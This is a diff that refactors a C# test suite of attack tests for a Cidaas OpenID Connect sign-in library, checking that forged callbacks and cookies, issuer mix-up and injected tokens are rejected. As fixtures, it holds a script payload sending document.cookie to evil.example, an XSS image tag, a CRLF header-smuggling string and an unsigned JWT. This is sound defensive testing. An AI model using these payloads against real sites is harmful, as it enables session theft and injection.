@@ -1,9 +1,4 @@
-using System.Net;
-using Cidaas.AspNetCore.Authentication.Testing;
-using Cidaas.AspNetCore.Authentication.Tests.Infrastructure;
-using Microsoft.Extensions.DependencyInjection;
 using Microsoft.IdentityModel.JsonWebTokens;
-using Xunit.Abstractions;
 
 namespace Cidaas.AspNetCore.Authentication.Tests.Hardening;
 
@@ -13,7 +8,7 @@ namespace Cidaas.AspNetCore.Authentication.Tests.Hardening;
 /// </summary>
 public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(output)
 {
-    private const string Origin = CidaasTestApp.Origin;
+    private const string Origin = TestApp.Origin;
 
     // RFC 9700 §4.5: authorization code injection.
     [Fact]
@@ -56,34 +51,29 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
 
         var response = await Browser.GetAsync(attackersCallback.ToString());
 
-        await ExpectFailureAsync(response, "CIDAAS1004");
-        TokenRequests.Should().Be(0);
+        await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1004");
     }
 
     [Fact]
     public async Task Correlation_cookie_with_the_right_name_but_a_forged_value_is_refused()
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
         var correlation = CorrelationCookieName();
 
         var response = await SendWithCookieHeaderAsync(callback.ToString(), $"{correlation}=forged");
 
-        await ExpectFailureAsync(response, "CIDAAS1004");
-        TokenRequests.Should().Be(0);
+        await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1004");
     }
 
     [Fact]
     public async Task A_flood_of_forged_correlation_cookies_does_not_stand_in_for_the_real_one()
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
         var forged = string.Join("; ", Enumerable.Range(0, 300).Select(i => $".AspNetCore.Correlation.forged{i}=N"));
 
         var response = await SendWithCookieHeaderAsync(callback.ToString(), forged);
 
-        await ExpectFailureAsync(response, "CIDAAS1004");
-        TokenRequests.Should().Be(0);
+        await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1004");
     }
 
     [Fact]
@@ -97,8 +87,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
         // Only the first flow's cookie goes along with the second flow's state.
         var response = await SendWithCookieHeaderAsync(second.ToString(), $"{firstCookie}=N");
 
-        await ExpectFailureAsync(response, "CIDAAS1004");
-        TokenRequests.Should().Be(0);
+        await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1004");
         (await Browser.GetAsync(first.ToString())).StatusCode.Should().Be(HttpStatusCode.Redirect, "the first flow is untouched");
         HasSignInCookie().Should().BeTrue();
     }
@@ -122,16 +111,8 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [Fact]
     public async Task Authorization_response_of_another_issuer_delivered_to_a_scheme_is_refused_as_a_mix_up_before_any_code_exchange()
     {
-        await using var otherIdp = CidaasEmulator.Create(TestClients.CreateEmulatorOptions("https://other-idp.test"));
-        await StartAppAsync(configureAuthentication: a => a.AddCidaas("CidaasB", o =>
-        {
-            o.Authority = otherIdp.Authority;
-            o.ClientId = TestClients.ClientId;
-            o.ClientSecret = TestClients.ClientSecret;
-            o.CallbackPath = "/signin-cidaas-b";
-            o.SignedOutCallbackPath = "/signout-callback-cidaas-b";
-            o.BackchannelHttpHandler = otherIdp.CreateHandler();
-        }));
+        await using var otherIdp = await CidaasEmulator.CreateAsync(TestClients.CreateEmulatorOptions("https://other-idp.test"));
+        await StartAppAsync(configureAuthentication: a => AddSecondScheme(a, otherIdp));
         Browser.Register(otherIdp.Authority, otherIdp.CreateHandler());
 
         // The user signs in with scheme B; B's (malicious) IdP forwards the authorization request, state and PKCE
@@ -153,13 +134,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [Fact]
     public async Task Error_response_with_a_foreign_issuer_is_refused_as_a_mix_up_and_not_treated_as_access_denied()
     {
-        await StartAppAsync(o => o.AccessDeniedPath = "/forbidden");
-        var callback = await AuthorizeAsync(await ChallengeAsync());
-
-        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("code", null), ("error", "access_denied"), ("iss", "https://evil.example")));
-
-        await ExpectFailureAsync(response, "CIDAAS1006");
-        TokenRequests.Should().Be(0);
+        await ExpectAlteredCallbackRejectedAsync(callback => CallbackUrl.With(callback, ("code", null), ("error", "access_denied"), ("iss", "https://evil.example")), "CIDAAS1006", o => o.AccessDeniedPath = "/forbidden");
     }
 
     [Theory]
@@ -170,13 +145,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [InlineData("https://cidaas.test.evil.example")]
     public async Task Iss_that_is_empty_or_not_byte_identical_to_the_issuer_is_refused(string iss)
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
-
-        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("iss", iss)));
-
-        await ExpectFailureAsync(response, "CIDAAS1006");
-        TokenRequests.Should().Be(0);
+        await ExpectAlteredCallbackRejectedAsync(callback => CallbackUrl.With(callback, ("iss", iss)), "CIDAAS1006");
     }
 
     [Fact]
@@ -184,13 +153,8 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     {
         EmulatorOptions.AdvertiseAuthorizationResponseIss = false;
         EmulatorOptions.SendIssInAuthorizationResponse = false;
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
 
-        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("iss", "https://evil.example")));
-
-        await ExpectFailureAsync(response, "CIDAAS1006");
-        TokenRequests.Should().Be(0);
+        await ExpectAlteredCallbackRejectedAsync(callback => CallbackUrl.With(callback, ("iss", "https://evil.example")), "CIDAAS1006");
     }
 
     // RFC 9700 §4.6: tokens in the front channel are never accepted.
@@ -199,13 +163,11 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [InlineData("id_token")]
     public async Task Token_injected_into_the_callback_instead_of_a_code_is_ignored(string parameter)
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
 
         var response = await Browser.GetAsync(CallbackUrl.With(callback, ("code", null), (parameter, "eyJhbGciOiJub25lIn0.eyJzdWIiOiJldmlsIn0."), ("token_type", "Bearer")));
 
-        await ExpectFailureAsync(response, "CIDAAS1005");
-        TokenRequests.Should().Be(0);
+        await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1005");
         UserInfoRequests.Should().Be(0);
     }
 
@@ -231,13 +193,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [InlineData("error_uri")]
     public async Task Callback_with_a_duplicated_error_parameter_is_rejected(string parameter)
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
-
-        var response = await Browser.GetAsync(callback + $"&{parameter}=one&{parameter}=two");
-
-        await ExpectFailureAsync(response, "CIDAAS1008");
-        TokenRequests.Should().Be(0);
+        await ExpectAlteredCallbackRejectedAsync(callback => callback + $"&{parameter}=one&{parameter}=two", "CIDAAS1008");
     }
 
     [Theory]
@@ -246,37 +202,19 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [InlineData("ISS")]
     public async Task Parameter_names_that_differ_only_in_case_count_as_duplicates(string spelling)
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
-
-        var response = await Browser.GetAsync(callback + $"&{spelling}=smuggled");
-
-        await ExpectFailureAsync(response, "CIDAAS1008");
-        TokenRequests.Should().Be(0);
+        await ExpectAlteredCallbackRejectedAsync(callback => callback + $"&{spelling}=smuggled", "CIDAAS1008");
     }
 
     [Fact]
     public async Task Code_and_error_together_are_an_error_and_the_code_is_not_redeemed()
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
-
-        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("error", "server_error")));
-
-        await ExpectFailureAsync(response, "CIDAAS1012");
-        TokenRequests.Should().Be(0);
+        await ExpectAlteredCallbackRejectedAsync(callback => CallbackUrl.With(callback, ("error", "server_error")), "CIDAAS1012");
     }
 
     [Fact]
     public async Task Empty_code_is_refused_without_a_token_request()
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
-
-        var response = await Browser.GetAsync(CallbackUrl.With(callback, ("code", "")));
-
-        await ExpectFailureAsync(response, "CIDAAS1005");
-        TokenRequests.Should().Be(0);
+        await ExpectAlteredCallbackRejectedAsync(callback => CallbackUrl.With(callback, ("code", "")), "CIDAAS1005");
     }
 
     [Theory]
@@ -306,8 +244,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [Fact]
     public async Task Oversized_state_is_refused_cleanly_and_not_echoed()
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
         var huge = "CfDJ8" + new string('A', 1024 * 1024);
 
         var response = await Browser.GetAsync(CallbackUrl.With(callback, ("state", huge)));
@@ -322,8 +259,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [InlineData(false)]
     public async Task Oversized_query_of_junk_parameters_neither_breaks_nor_bypasses_the_checks(bool genuineState)
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
         var junk = string.Join('&', Enumerable.Range(0, 5000).Select(i => $"p{i}=" + new string('x', 50)));
         var target = genuineState ? callback : new Uri(CallbackUrl.With(callback, ("state", "CfDJ8forged")));
 
@@ -336,8 +272,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
         }
         else
         {
-            await ExpectFailureAsync(response, "CIDAAS1002");
-            TokenRequests.Should().Be(0);
+            await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1002");
         }
     }
 
@@ -346,8 +281,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [InlineData(false)]
     public async Task Oversized_cookie_header_neither_breaks_nor_bypasses_the_correlation_check(bool withTheRealCookie)
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
         var real = withTheRealCookie ? $"{CorrelationCookieName()}=N; " : "";
         var junk = string.Join("; ", Enumerable.Range(0, 64).Select(i => $"junk{i}=" + new string('j', 1024)));
 
@@ -360,8 +294,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
         }
         else
         {
-            await ExpectFailureAsync(response, "CIDAAS1004");
-            TokenRequests.Should().Be(0);
+            await ExpectRejectedWithoutTokenRequestAsync(response, "CIDAAS1004");
         }
     }
 
@@ -373,8 +306,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [InlineData("OPTIONS")]
     public async Task Callback_with_a_method_other_than_GET_is_a_clean_failure(string method)
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
 
         var response = await Browser.SendAsync(new HttpMethod(method), callback.ToString());
 
@@ -388,8 +320,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [Fact]
     public async Task Error_description_with_markup_is_served_as_uncached_nosniff_plain_text()
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
 
         var response = await Browser.GetAsync(CallbackUrl.With(callback, ("code", null), ("error", "invalid_request"), ("error_description", "<img src=x onerror=alert(1)>")));
 
@@ -403,11 +334,9 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     public async Task Token_endpoint_error_description_with_script_is_served_as_plain_text()
     {
         await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
-        Emulator.Faults.Enqueue(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(
-            400, """{"error":"invalid_grant","error_description":"<script>document.location='https://evil.example/?c='+document.cookie</script>"}""", "application/json"));
 
-        var response = await Browser.GetAsync(callback.ToString());
+        var response = await CallbackAfterAsync(next => next.Fault(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(
+            400, """{"error":"invalid_grant","error_description":"<script>document.location='https://evil.example/?c='+document.cookie</script>"}""", "application/json")));
 
         await ExpectFailureAsync(response, "CIDAAS2001");
         response.Content.Headers.ContentType!.MediaType.Should().Be("text/plain");
@@ -417,8 +346,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [Fact]
     public async Task Error_description_with_line_breaks_cannot_forge_a_header_or_a_log_line()
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
 
         var response = await Browser.GetAsync(CallbackUrl.With(callback, ("code", null), ("error", "invalid_request"), ("error_description", "bad\r\nSet-Cookie: pwned=1\r\nInformation Forged[0]: admin signed in")));
 
@@ -431,8 +359,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [Fact]
     public async Task Huge_error_description_is_cut_short_on_the_page_and_in_the_log()
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
         var huge = new string('E', 100_000);
 
         var response = await Browser.GetAsync(CallbackUrl.With(callback, ("code", null), ("error", "server_error"), ("error_description", huge)));
@@ -497,11 +424,10 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
     [Fact]
     public async Task Token_endpoint_that_echoes_the_secret_and_the_code_in_its_error_leaks_neither_to_page_log_or_failure()
     {
-        await StartAppAsync();
-        var callback = await AuthorizeAsync(await ChallengeAsync());
+        var callback = await StartAppAndAuthorizeAsync();
         var code = CallbackUrl.Parameter(callback, "code");
         var echo = $"client_secret '{TestClients.ClientSecret}' is wrong for code {code}";
-        Emulator.Faults.Enqueue(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(
+        Emulator.Next.Fault(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(
             401, $$"""{"error":"invalid_client {{code}}","error_description":{{System.Text.Json.JsonSerializer.Serialize(echo)}}}""", "application/json"));
 
         var response = await Browser.GetAsync(callback.ToString());
@@ -531,7 +457,7 @@ public sealed class AttackTests(ITestOutputHelper output) : SignInTestBase(outpu
         Browser.Register(cidaas.Authority, cidaas.CreateHandler());
         var challenge = await Browser.GetAsync(Origin + "/protected");
         var callback = await AuthorizeAsync(challenge.Headers.Location!);
-        cidaas.Faults.Enqueue(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(status, "", headers: new Dictionary<string, string> { ["Location"] = cidaas.Authority + "/steal" }));
+        cidaas.Next.Fault(CidaasDefaults.TokenPath, CidaasEmulatorFault.Status(status, "", headers: new Dictionary<string, string> { ["Location"] = cidaas.Authority + "/steal" }));
 
         var response = await Browser.GetAsync(callback.ToString());
 
